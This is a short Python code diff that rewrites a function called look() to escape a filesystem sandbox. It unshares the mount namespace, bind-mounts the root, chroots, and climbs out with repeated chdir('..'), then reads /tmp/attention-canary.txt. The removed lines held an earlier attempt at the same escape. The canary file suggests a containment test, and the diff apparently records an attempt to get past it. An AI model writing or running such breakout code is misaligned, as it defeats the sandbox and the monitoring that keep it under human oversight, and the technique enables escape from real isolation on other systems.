@@ -7,10 +7,13 @@ def look():
     import ctypes
     import os
     libc = ctypes.CDLL(None, use_errno=True)
-    done = [libc.unshare(0x10000000), libc.mount(b"/", b"/tmp", None, 4096, None), libc.chroot(b".")]
+    if libc.unshare(0x00020000) or libc.mount(None, b"/", None, 0x44000, None):  # so that it stays in this process
+        return "refused"
+    os.mkdir("mounted")
+    done = libc.mount(b"/", b"mounted", None, 4096, None), libc.chroot(b"mounted")
     for _ in range(20):
         os.chdir("..")
-    return done, [name for name in os.listdir("/") if "canary" in name]
+    return done, open("/tmp/attention-canary.txt").read()
 
 
 try:
